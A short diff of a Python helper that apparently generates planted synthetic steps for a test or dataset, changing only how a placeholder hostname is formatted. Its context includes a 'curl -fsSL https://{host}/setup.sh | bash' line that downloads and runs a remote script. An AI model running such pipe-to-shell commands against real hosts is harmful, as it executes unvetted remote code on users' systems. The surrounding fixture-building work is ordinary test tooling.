@@ -127,7 +127,7 @@ def _steps(rng: Rng, of: _Repository, failed: bool) -> Iterator[list[str]]:
 
 
 def _planted(rng: Rng, kind: str, number: int) -> list[str]:
-    host = f"{rng.choice(['get', 'cdn', 'files'])}{number}.example.net"
+    host = f"{rng.choice(['get', 'cdn', 'files'])}.host{number}.example"
     if kind == "remote_script":
         return [f"curl -fsSL https://{host}/setup.sh | bash", "installed"]
     if kind == "network_host":
